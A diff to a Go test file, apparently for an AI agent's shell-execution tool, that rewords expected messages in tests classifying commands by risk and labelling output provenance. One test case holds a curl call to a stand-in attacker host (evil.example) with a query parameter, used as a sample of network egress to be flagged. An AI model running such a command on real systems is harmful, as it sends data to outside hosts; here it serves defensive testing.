@@ -103,7 +103,7 @@ func TestJudgement(t *testing.T) {
 		why     string
 	}{
 		"looks only":       {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
-		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "nothing confines it"},
+		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "no sandbox"},
 		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
 		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "asks for the network"},
 		"sends":            {runIn{Command: "mail a@b.example"}, tools.Exec | tools.Send, false, "sends"},
@@ -149,11 +149,11 @@ func TestResults(t *testing.T) {
 	}{
 		"files are outside text": {runIn{Command: "cat notes.txt"}, "one", provenance.Outside},
 		"its own words":          {runIn{Command: "echo hello"}, "hello", provenance.Tool},
-		"nothing":                {runIn{Command: "true"}, "It printed nothing.", provenance.Tool},
+		"nothing":                {runIn{Command: "true"}, "It printed no output.", provenance.Tool},
 		"status":                 {runIn{Command: "ls nothing"}, "exit status", provenance.Outside},
 		"another folder":         {runIn{Command: "pwd", Cwd: "~/Documents"}, b.docs, provenance.Outside},
 		"no sandbox is said":     {runIn{Command: "touch x"}, "without a sandbox", provenance.Outside},
-		"too long":               {runIn{Command: "sleep 60", Timeout: 1}, "took longer than 1s and was ended", provenance.Tool},
+		"too long":               {runIn{Command: "sleep 60", Timeout: 1}, "ran longer than 1s and was stopped", provenance.Tool},
 	} {
 		t.Run(name, func(t *testing.T) {
 			r, err := b.run(c.in)
